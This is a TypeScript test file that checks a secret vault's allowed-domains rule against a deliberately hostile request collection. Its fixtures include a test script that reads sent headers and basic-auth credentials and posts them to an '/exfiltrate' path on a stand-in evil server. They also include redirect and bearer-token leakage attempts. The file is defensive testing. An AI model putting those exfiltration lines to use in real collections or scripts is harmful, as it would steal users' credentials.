/**
 * A hostile collection tries every way to get domain-restricted values to another host:
 * directly, through a variable-built URL, as a bearer token, through 302/307 redirects
 * (header, body, Referer) and through scripts that read the sent request. The "evil"
 * server (127.0.0.2, a different host name) must never receive a value; the allowed
 * host still gets it, with a port in the URL and through a `*.` wildcard.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run, type RunSummary } from '../src/index.js';
import { captureMessages, collection } from './helpers/collections.js';
import { startRecordingServer, type RecordingServer } from './helpers/recording-server.js';
import { createTestVault, type TestVault } from './helpers/test-vault.js';

const RESTRICTED = 'restricted-value-31f9a2';
const LINKED_RESTRICTED = 'linked-restricted-77c0de';
const WILDCARD = 'wildcard-value-5be140';

describe('allowed domains against a hostile collection', () => {
  let good: RecordingServer;
  let evil: RecordingServer;
  let testVault: TestVault;
  let summary: RunSummary;
  let warnings: string[];

  beforeAll(async () => {
    good = await startRecordingServer('127.0.0.1');
    evil = await startRecordingServer('127.0.0.2');
    testVault = await createTestVault({ 'team/restricted': LINKED_RESTRICTED });
    await testVault.vault.setLocal('restricted', RESTRICTED, { allowedDomains: ['http://127.0.0.1'] });
    await testVault.vault.link('linked_restricted', 'memory', { path: 'team/restricted' }, { allowedDomains: ['http://127.0.0.1'] });
    await testVault.vault.setLocal('wild', WILDCARD, { allowedDomains: ['http://*.localhost'] });
    const G = good.origin;
    const E = evil.origin;
    const both = '{{vault:restricted}}.{{vault:linked_restricted}}';
    const captured = captureMessages();
    warnings = captured.warnings;
    summary = await run({
      collection: collection(
        [
          { name: 'allowed, port in URL', request: { url: `${G}/allowed?k=${both}`, header: [{ key: 'X-K', value: both }] } },
          {
            name: 'direct to evil',
            request: {
              method: 'POST',
              url: `${E}/direct?k=${both}`,
              header: [{ key: 'X-K', value: both }],
              body: { mode: 'raw', raw: both },
            },
          },
          { name: 'variable-built URL', request: { url: '{{target}}/variable', header: [{ key: 'X-K', value: '{{nested}}' }] } },
          {
            name: 'bearer to evil',
            request: { url: `${E}/bearer`, auth: { type: 'bearer', bearer: [{ key: 'token', value: '{{vault:restricted}}' }] } },
          },
          {
            name: 'redirect carries a header',
            request: { url: `${G}/redirect?to=${encodeURIComponent(`${E}/landed-header`)}`, header: [{ key: 'X-K', value: both }] },
          },
          {
            name: 'redirect carries the Referer',
            request: { url: `${G}/redirect?to=${encodeURIComponent(`${E}/landed-referer`)}&k={{vault:restricted}}` },
          },
          {
            name: '307 redirect carries the body',
            request: {
              method: 'POST',
              url: `${G}/redirect?status=307&to=${encodeURIComponent(`${E}/landed-307`)}`,
              body: { mode: 'raw', raw: 'secret={{vault:linked_restricted}}' },
            },
          },
          {
            name: 'redirect within the allowed host is followed',
            request: {
              url: `${G}/redirect?to=${encodeURIComponent('/same-host')}`,
              header: [{ key: 'X-K', value: '{{vault:restricted}}' }],
            },
          },
          {
            name: 'script reads the sent request',
            request: {
              url: `${G}/script-source`,
              header: [{ key: 'X-K', value: both }],
              auth: {
                type: 'basic',
                basic: [
                  { key: 'username', value: 'u' },
                  { key: 'password', value: '{{vault:restricted}}' },
                ],
              },
            },
            test: [
              'const header = pm.request.headers.get("X-K");',
              'const auth = pm.request.headers.get("Authorization") || "";',
              `pm.sendRequest({ url: "${E}/exfiltrate?h=" + encodeURIComponent(header) + "&u=" + encodeURIComponent(pm.request.url.toString()), header: { "X-A": auth, "X-B": "{{vault:restricted}}" } }, () => {});`,
              'pm.environment.set("stolen", header + "|" + auth);',
              'pm.vault.get("restricted").then((v) => pm.environment.set("via_vault", String(v)), (e) => pm.environment.set("via_vault", "denied: " + (e && e.message || e)));',
            ],
          },
          {
            name: 'stolen variable to evil',
            request: {
              url: `${E}/stolen`,
              header: [
                { key: 'X-S', value: '{{stolen}}' },
                { key: 'X-V', value: '{{via_vault}}' },
              ],
            },
          },
          {
            name: 'wildcard subdomain',
            request: { url: `http://api.localhost:${good.port}/wild`, header: [{ key: 'X-W', value: '{{vault:wild}}' }] },
          },
          { name: 'wildcard does not match the IP', request: { url: `${G}/not-wild`, header: [{ key: 'X-W', value: '{{vault:wild}}' }] } },
          { name: 'wildcard to evil', request: { url: `${E}/wild`, header: [{ key: 'X-W', value: '{{vault:wild}}' }] } },
        ],
        { target: E, nested: both },
      ),
      vault: testVault.vault,
      env: testVault.env,
      messages: captured.messages,
    });
  });

  afterAll(async () => {
    await good.close();
    await evil.close();
    await testVault.cleanup();
  });

  it('never lets the evil host receive a value, in any part of any request', () => {
    expect(evil.requests.length).toBeGreaterThanOrEqual(5); // it was targeted, not just unreachable
    for (const value of [RESTRICTED, LINKED_RESTRICTED, WILDCARD]) {
      expect(evil.received(value), `evil server received ${value.slice(0, 10)}…`).toBe(false);
      expect(evil.received(Buffer.from(`u:${value}`).toString('base64'))).toBe(false);
    }
    expect(evil.requests.map((request) => new URL(request.url, 'http://x').pathname)).not.toContain('/landed-header');
    expect(evil.requests.map((request) => new URL(request.url, 'http://x').pathname)).not.toContain('/landed-referer');
    expect(evil.requests.map((request) => new URL(request.url, 'http://x').pathname)).not.toContain('/landed-307');
  });

  it('sends references to other hosts literally, as Postman does', () => {
    const direct = evil.requests.find((request) => request.url.startsWith('/direct'));
    expect(direct?.headers['x-k']).toBe('{{vault:restricted}}.{{vault:linked_restricted}}');
    expect(direct?.body).toBe('{{vault:restricted}}.{{vault:linked_restricted}}');
    expect(evil.requests.find((request) => request.url === '/variable')?.headers['x-k']).toBe(
      '{{vault:restricted}}.{{vault:linked_restricted}}',
    );
    expect(evil.requests.find((request) => request.url === '/bearer')?.headers['authorization']).toBe('Bearer {{vault:restricted}}');
  });

  it('hands scripts without vault access the references, not the values, and denies pm.vault', () => {
    const stolen = evil.requests.find((request) => request.url === '/stolen');
    expect(stolen?.headers['x-s']).toContain('{{vault:restricted}}.{{vault:linked_restricted}}');
    expect(stolen?.headers['x-v']).toBe('denied: Vault access denied');
    expect(evil.requests.some((request) => request.url.startsWith('/exfiltrate'))).toBe(true);
  });

  it('still sends values to the allowed host, whatever the port, and follows redirects within it', () => {
    const allowed = good.requests.find((request) => request.url.startsWith('/allowed'));
    expect(allowed?.headers['x-k']).toBe(`${RESTRICTED}.${LINKED_RESTRICTED}`);
    expect(allowed?.url).toBe(`/allowed?k=${RESTRICTED}.${LINKED_RESTRICTED}`);
    expect(good.requests.find((request) => request.url === '/same-host')?.headers['x-k']).toBe(RESTRICTED);
    expect(good.requests.find((request) => request.url === '/script-source')?.headers['x-k']).toBe(`${RESTRICTED}.${LINKED_RESTRICTED}`);
  });

  it('matches a *. wildcard against subdomains only', () => {
    const wild = good.requests.find((request) => request.url === '/wild');
    expect(wild?.headers['host']).toBe(`api.localhost:${good.port}`);
    expect(wild?.headers['x-w']).toBe(WILDCARD);
    expect(good.requests.find((request) => request.url === '/not-wild')?.headers['x-w']).toBe('{{vault:wild}}');
    expect(evil.requests.find((request) => request.url === '/wild')?.headers['x-w']).toBe('{{vault:wild}}');
  });

  it('fails the three cross-host redirects with an error naming the secret, not its value', () => {
    const messages = summary.run.failures.map((failure) => String((failure as { error?: { message?: string } }).error?.message));
    const stopped = messages.filter((message) => message.startsWith('vaultlink stopped a redirect'));
    expect(stopped).toHaveLength(3);
    expect(stopped.join('\n')).toMatch(/vault secret "(restricted|linked_restricted)"/);
    expect(stopped.join('\n')).not.toContain(RESTRICTED);
    expect(summary.vaultlink.exitCode).toBe(1);
    // Each reference sent literally is named once per reason, with its allowed domains, never its value.
    expect(warnings).toEqual([
      expect.stringMatching(
        /^\{\{vault:restricted\}\} was sent literally to 127\.0\.0\.2:\d+ \(URL\): it is not allowed for this host \(allowed domains: http:\/\/127\.0\.0\.1\)\.$/,
      ),
      expect.stringMatching(/^\{\{vault:linked_restricted\}\} was sent literally to 127\.0\.0\.2:\d+ \(URL\)/),
      expect.stringMatching(
        /^\{\{vault:wild\}\} was sent literally to 127\.0\.0\.1:\d+ \(header X-W\): it is not allowed for this host \(allowed domains: http:\/\/\*\.localhost\)\.$/,
      ),
    ]);
    expect(warnings.join('\n')).not.toContain(RESTRICTED);
  });
});
